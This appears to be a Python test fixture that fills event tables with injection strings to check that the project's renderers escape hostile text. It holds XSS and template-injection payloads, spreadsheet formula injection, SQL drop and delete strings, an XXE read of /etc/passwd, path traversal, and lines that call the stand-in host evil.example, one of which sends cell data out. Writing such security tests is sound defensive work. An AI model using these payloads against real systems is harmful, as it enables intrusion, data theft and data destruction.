"""Text that attacks whatever prints it: none of it may run, break a file or leave its field.

A payload that gets to run sets ``window.pwned``, which the Chromium tests look for.
"""

from __future__ import annotations

import json
from typing import Any

from tests import frames

_RUN = "window.pwned=1"

#: Attacks on HTML, scripts and templates.
HTML = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</SCRIPT ><script>{_RUN}</script>",
    f"<!--<script>{_RUN}//-->",
    f"--><script>{_RUN}</script>",
    f"<!-- <script> --!><img src=x onerror={_RUN}>",
    f"]]><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><img src=x onerror={_RUN}>",
    f"</noscript><img src=x onerror={_RUN}>",
    f"</template><img src=x onerror={_RUN}>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={_RUN}>#x'/></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=\"javascript:parent.{_RUN}\"></iframe>",
    f"<object data=\"javascript:{_RUN}\"></object>",
    f"<embed src=\"data:text/html,<script>parent.{_RUN}</script>\">",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<a href=\"javascript:{_RUN}\">click</a>",
    f"<form action=\"javascript:{_RUN}\"><button>go</button></form>",
    f"<base href=\"javascript:{_RUN}//\">",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{_RUN}\">",
    f"<link rel=stylesheet href=\"data:text/css,*{{x:expression({_RUN})}}\">",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<plaintext>",
    "<xmp>",
    f"\" onmouseover=\"{_RUN}\" x=\"",
    f"' onmouseover='{_RUN}' x='",
    f"\"><img src=x onerror={_RUN}>",
    f"'><img src=x onerror={_RUN}>",
    f"`><img src=x onerror={_RUN}>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"${{{_RUN}}}",
    f"`${{{_RUN}}}`",
    f"\\`;{_RUN};//",
    f"';{_RUN};//",
    f"\";{_RUN};//",
    f"\\\";{_RUN};//",
    f"\u2028{_RUN}//\u2029{_RUN}",
    f"\n{_RUN}\n",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{{ 7 * 7 }} {% raw %} {# x #}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "<%= 7 * 7 %> #{7*7} ${7*7} @(7*7)",
    f"__proto__[pwned]={_RUN}",
    "constructor",
    "__proto__",
    "hasOwnProperty",
    f"a[href=x]{{}}*{{background:url(javascript:{_RUN})}}",
)  # fmt: skip

#: Attacks on spreadsheets, databases, XML, paths and readers' eyes.
OTHER = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'; DROP TABLE events; --",
    'x"); DELETE FROM layer_styles; --',
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&undefined; & < > \" '",
    "]]>",
    '[% @qgis_version %] [% "title" %]',
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\drivers",
    "con.txt:stream",
    "a\u202egnp.exe\u202c \u2066hidden\u2069",
    "\ufeffBOM and zero\u200bwidth\u200d",
    "lone \ud800 surrogate".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "bell\x07 escape\x1b[31m delete\x7f vertical\x0b",
    "e" + "\u0301" * 60,
    "A" * 5000,
    "מתקפה על תל אביב, אמרו גורמים",
    "هجوم على مدينة غزة، قال مسؤولون",
    "🇺🇦🇵🇸 👩‍👩‍👧‍👦 emoji",
)

#: Addresses that must never become a link.
LINKS = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\nscript:{_RUN}",
    f" \tjavascript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://news.example/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    "blob:https://news.example/1",
    "//evil.example/x",
    "https:evil",
    f'https://news.example/" onclick="{_RUN}',
)

PAYLOADS = HTML + OTHER + LINKS


def events() -> list[dict[str, Any]]:
    """Return an event row for each payload, with the payload in every text column."""
    rows = []
    for number, text in enumerate(PAYLOADS, 1):
        rows.append(
            frames.event(
                number,
                place=text,
                lon=30 + number % 12,
                lat=45 + number // 12,
                type=text if number % 2 else "ASSAULT",
                mode=text,
                trigger=text,
                quote=f"{text} was said, according to {text}.",
                admin1=text,
                country=text,
                acled=text,
                at_least=text,
                place_id=f"x:{number}",
                alternatives=json.dumps(
                    [
                        {
                            "place_id": text,
                            "name": text,
                            "country": text,
                            "lat": 1,
                            "lon": 1,
                            "probability": 0.4,
                        }
                    ]
                ),
                date_text=text,
                actors=text,
                recipients=text,
                reasons=text,
                sources=text,
                title=text,
                source=text,
                url=text,
                gazetteer=text,
                start="2026-01-24T00:00:00Z",
                end="2026-01-24T23:59:59Z",
            )
        )
    return rows


def result() -> frames.Result:
    """Return tables in which every text comes from an attacker."""
    made = frames.result(
        events(),
        places=[
            {
                **dict.fromkeys(("name", "country", "country_name", "admin1", "admin2", "source"), text),
                "place_id": f"x:{number}",
                "geometry": row["geometry"],
            }
            for number, (text, row) in enumerate(zip(PAYLOADS, events(), strict=True), 1)
        ],
        mentions=[
            {
                **dict.fromkeys(("text", "place", "reasons"), text),
                "mention_id": f"a1:{number}-{number + 1}",
                "article_id": "a1",
                "geometry": frames.Point(30, 45),
            }
            for number, text in enumerate(PAYLOADS)
        ],
        articles=[{"article_id": "a1", "title": PAYLOADS[0], "url": LINKS[0], "source": PAYLOADS[0]}],
    )
    assert len(made.events) >= 60
    return made
